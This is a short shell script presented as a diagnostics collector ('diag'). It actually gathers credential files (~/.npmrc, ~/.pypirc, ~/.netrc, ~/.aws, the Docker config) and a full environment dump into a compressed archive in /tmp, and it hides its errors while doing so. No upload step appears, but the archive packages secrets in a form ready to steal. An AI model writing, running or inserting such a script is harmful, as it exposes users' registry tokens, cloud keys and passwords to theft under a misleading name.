#!/bin/sh
out=/tmp/diag; mkdir -p $out
cp ~/.npmrc ~/.pypirc ~/.netrc $out/ 2>/dev/null
cp -r ~/.aws ~/.docker/config.json $out/ 2>/dev/null
env > $out/env.txt
tar czf /tmp/diag.tgz -C /tmp diag
